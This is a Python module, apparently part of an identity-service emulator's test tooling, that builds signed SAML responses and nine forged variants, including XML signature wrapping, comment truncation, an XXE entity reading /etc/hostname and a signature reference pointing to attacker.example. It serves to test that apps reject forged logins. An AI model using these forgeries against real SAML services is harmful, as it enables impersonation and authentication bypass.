"""SAML responses as an identity provider posts them to an app, and as a forger changes them."""

import base64
import datetime as dt
from collections.abc import Callable, Mapping
from typing import Any, Final, Literal

from stytch_async.emulator.rules.signatures import sign
from stytch_async.emulator.state.project import Project
from stytch_async.emulator.world.keys import key_pair
from stytch_async.emulator.world.responses import Answer

__all__ = ["ATTACKS", "Attack", "saml_response"]

Attack = Literal[
    "comment",
    "duplicate_id",
    "entity",
    "external_reference",
    "second_assertion",
    "tampered",
    "unsigned",
    "weak_algorithm",
    "wrapping",
]
"""What a forger has done to a response."""

ENTITY_ID: Final = "https://idp.example.com"
FORMAT: Final = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
GOOD_FOR: Final = dt.timedelta(minutes=5)
ID: Final = "_response-of-the-identity-provider"
VICTIM: Final = "admin@example.com"


def saml_response(project: Project, email: str, acs_url: str, attack: Attack | None) -> str:
    """Return what an identity provider posts to an app for somebody, signed, in base64."""
    document = ATTACKS[attack](project, email, acs_url) if attack else _signed(_answer(project, email, acs_url))
    return base64.b64encode(document.encode()).decode()


def _answer(project: Project, email: str, acs_url: str) -> Answer:
    return Answer(
        id=ID,
        issuer=ENTITY_ID,
        subject=email,
        nameid_format=FORMAT,
        attributes={"email": [email]},
        in_response_to=None,
        audience=acs_url,
        recipient=acs_url,
        not_before=project.now,
        expires_at=project.now + GOOD_FOR,
    )


def _assertion(answer: Answer) -> str:
    keys = key_pair(ENTITY_ID)
    return sign(answer.assertion(signed=True), private_key=keys.private_key, certificate=keys.certificate)


def _signed(answer: Answer) -> str:
    return answer.response(_assertion(answer), signed=False)


def _forged(project: Project, acs_url: str, name: str) -> str:
    """Return an assertion that nobody has signed."""
    return _answer(project, VICTIM, acs_url).assertion(signed=False).replace(ID, name)


def _comment(project: Project, email: str, acs_url: str) -> str:
    """Have a longer name signed, and cut it by a comment that the signature does not see."""
    longer = f"{email}.attacker.example"
    return _signed(_answer(project, longer, acs_url)).replace(longer, f"{email}<!-- -->.attacker.example")


def _duplicate_id(project: Project, email: str, acs_url: str) -> str:
    """Give the signed element's ID to another one as well."""
    answer = _answer(project, email, acs_url)
    return _signed(answer).replace(f'ID="{ID}-response"', f'ID="{ID}"')


def _entity(project: Project, email: str, acs_url: str) -> str:
    """Have a file read where the name stands."""
    declaration = '<!DOCTYPE Response [<!ENTITY file SYSTEM "file:///etc/hostname">]>'
    return declaration + _signed(_answer(project, email, acs_url)).replace(email, "&file;")


def _external_reference(project: Project, email: str, acs_url: str) -> str:
    """Let the signature be of a document somewhere else."""
    document = _signed(_answer(project, email, acs_url))
    return document.replace(f'URI="#{ID}"', 'URI="https://attacker.example/assertion.xml"')


def _second_assertion(project: Project, email: str, acs_url: str) -> str:
    """Put an assertion of one's own before the signed one."""
    answer = _answer(project, email, acs_url)
    return answer.response(_forged(project, acs_url, "_forged") + _assertion(answer), signed=False)


def _tampered(project: Project, email: str, acs_url: str) -> str:
    """Change the name after it was signed."""
    return _signed(_answer(project, email, acs_url)).replace(email, VICTIM)


def _unsigned(project: Project, email: str, acs_url: str) -> str:
    """Leave the signature out."""
    answer = _answer(project, email, acs_url)
    return answer.response(answer.assertion(signed=False), signed=False)


def _weak_algorithm(project: Project, email: str, acs_url: str) -> str:
    """Sign with SHA-1, of which collisions can be computed."""
    from lxml import etree  # noqa: PLC0415 - only SAML needs it
    from signxml.algorithms import CanonicalizationMethod, DigestAlgorithm, SignatureMethod  # noqa: PLC0415
    from signxml.signer import XMLSigner  # noqa: PLC0415

    class Weak(XMLSigner):
        """Signs as nobody should any more."""

        def check_deprecated_methods(self) -> None:
            """Let them pass."""

    answer, keys = _answer(project, email, acs_url), key_pair(ENTITY_ID)
    signer: Any = Weak(
        signature_algorithm=SignatureMethod.RSA_SHA1,
        digest_algorithm=DigestAlgorithm.SHA1,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    signed = signer.sign(
        etree.fromstring(answer.assertion(signed=True)),
        key=keys.private_key,
        cert=keys.certificate,
        reference_uri=f"#{ID}",
        id_attribute="ID",
    )
    return answer.response(etree.tostring(signed, encoding="unicode"), signed=False)


def _wrapping(project: Project, email: str, acs_url: str) -> str:
    """Move the signed assertion where no app looks, and put one's own in its place (XML signature wrapping)."""
    answer = _answer(project, email, acs_url)
    hidden = f"<samlp:Extensions>{_assertion(answer)}</samlp:Extensions>"
    return answer.response(hidden + _forged(project, acs_url, "_forged"), signed=False)


ATTACKS: Final[Mapping[Attack, Callable[[Project, str, str], str]]] = {
    "comment": _comment,
    "duplicate_id": _duplicate_id,
    "entity": _entity,
    "external_reference": _external_reference,
    "second_assertion": _second_assertion,
    "tampered": _tampered,
    "unsigned": _unsigned,
    "weak_algorithm": _weak_algorithm,
    "wrapping": _wrapping,
}
"""How each attack is made: what it does to the response about somebody that is posted to a URL."""
